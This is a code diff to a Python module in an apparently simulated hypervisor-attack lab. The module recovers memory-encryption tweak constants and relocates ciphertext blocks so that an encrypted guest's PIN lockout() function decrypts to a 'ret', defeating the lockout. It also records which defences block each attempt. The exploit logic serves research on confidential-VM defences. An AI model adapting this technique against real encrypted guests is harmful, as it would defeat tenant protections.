@@ -12,11 +12,13 @@ encrypted guest without its key. Zen 2's random per-boot tweak defeats the first
 from __future__ import annotations
 
 from hv import boot
+from hv.attacks.a05_replay import TRIES, wrong_pin
+from hv.attacks.findings import Findings
 from hv.attacks.lab import OP_CHECK_PIN, Lab, Request
 from hv.attacks.outcome import Outcome
-from hv.attacks.secrets import fresh_secret
 from hv.attacks.tweak_solver import Unsolvable, recover_constants, tweak
-from hv.hw.machine import TweakMode
+from hv.attacks.verdict import Trial, judge
+from hv.hw.grants import TweakMode
 from hv.kvm import RmpViolation
 
 __all__ = ["ID", "NAME", "PAPER", "PRIMITIVES", "run"]
@@ -37,7 +39,7 @@ def _pattern(t: int) -> bytes:
 def _plant(lab: Lab, constants: dict[int, int], target_gpa: int) -> tuple[int, int, str] | None:
     """Move a known-plaintext image block onto `target_gpa` so its first byte decrypts to RET.
     Returns (source GPA, delta, "" or why the write was refused) or None."""
-    xex = lab.machine.tweak_mode() is not TweakMode.XE_LINEAR
+    xex = lab.config.tweak is not TweakMode.XE_LINEAR
     p = lab.spa(target_gpa)
     for gpa, data in boot.image_regions(lab.image, lab.config.mem_size):
         for off in range(0, len(data) - 15, 16):
@@ -58,36 +60,45 @@ def _plant(lab: Lab, constants: dict[int, int], target_gpa: int) -> tuple[int, i
     return None
 
 
-def run(mode: str, *, tweak_mode: TweakMode = TweakMode.XEX_LINEAR) -> Outcome:
-    if mode == "plain":
-        return Outcome(ID, mode, "n/a", "a plain VM is not encrypted: the hypervisor writes code directly")
-    secret = fresh_secret()
-    wrong_pin = int.from_bytes(secret[:4], "little") ^ 0x5A5A5A5A
+def _attack(trial: Trial, tweak_mode: TweakMode) -> Findings:
+    if trial.mode == "plain":
+        return Findings("", na="a plain VM is not encrypted: the hypervisor writes code directly")
+    pin = wrong_pin()
     statuses: list[int] = []
-    with Lab("service", mode, secret=secret, tweak=tweak_mode) as lab:
+    with trial.lab("service", tweak=tweak_mode) as lab:
         try:
-            constants = recover_constants(lab.machine)   # before the guest is loaded
+            constants = recover_constants(lab.vm.host, tweak_mode)   # before the guest is loaded
         except Unsolvable as e:
-            return Outcome(ID, mode, "failed", f"{tweak_mode.value}: {e}")
+            return Findings(f"{tweak_mode.value}: {e}", defence=f"no linear tweak to solve ({tweak_mode.value})")
         lab.launch()
         target = lab.symbols["lockout"]
         planted = _plant(lab, constants, target)
 
         def script():
-            for _ in range(5):
-                r = yield Request(OP_CHECK_PIN, wrong_pin)
+            for _ in range(TRIES):
+                r = yield Request(OP_CHECK_PIN, pin)
                 statuses.append(r.status)
 
-        lab.run(script())
+        stop = lab.run(script())
     shown = ", ".join(f"t{b}={constants[b]:#010x}" for b in (4, 5, 6))
     head = f"{tweak_mode.value}: recovered t4..t{max(constants)} with the host key ({shown}, ...)"
+    guesses = (pin.to_bytes(4, "little"),)
     if planted is None:
-        return Outcome(ID, mode, "failed", f"{head}; no image block gives a 'ret' at lockout()")
+        return Findings(f"{head}; no image block gives a 'ret' at lockout()", achieved=False,
+                        guesses=guesses, defence="no block of the known image fits")
     src, delta, refused = planted
     if refused:
-        return Outcome(ID, mode, "failed", f"{head}; the block for lockout() at {target:#x} was "
-                                           f"found at GPA {src:#x}, but writing it faulted: {refused}")
+        return Findings(f"{head}; the block for lockout() at {target:#x} was found at GPA {src:#x}, "
+                        f"but writing it faulted: {refused}", achieved=False, guesses=guesses,
+                        defence=f"RMP: {refused}")
+    completed = len(statuses) == TRIES and stop.reason == "exit"
     locked = LOCKED in statuses
-    tail = (f"moved the block at GPA {src:#x} onto lockout() at {target:#x} (delta {delta:#010x}) "
-            f"-> 'ret'; after 5 wrong PINs the guest " + ("still locked" if locked else "never locked"))
-    return Outcome(ID, mode, "failed" if locked else "succeeded", f"{head}; {tail}")
+    after = ("still locked" if locked else "never locked") if completed else \
+        f"answered {len(statuses)} of them; {stop.describe()}"
+    return Findings(f"{head}; moved the block at GPA {src:#x} onto lockout() at {target:#x} (delta "
+                    f"{delta:#010x}) -> 'ret'; after {TRIES} wrong PINs the guest {after}",
+                    achieved=completed and not locked, completed=completed, guesses=guesses)
+
+
+def run(mode: str, *, tweak_mode: TweakMode = TweakMode.XEX_LINEAR) -> Outcome:
+    return judge(ID, mode, lambda trial: _attack(trial, tweak_mode))
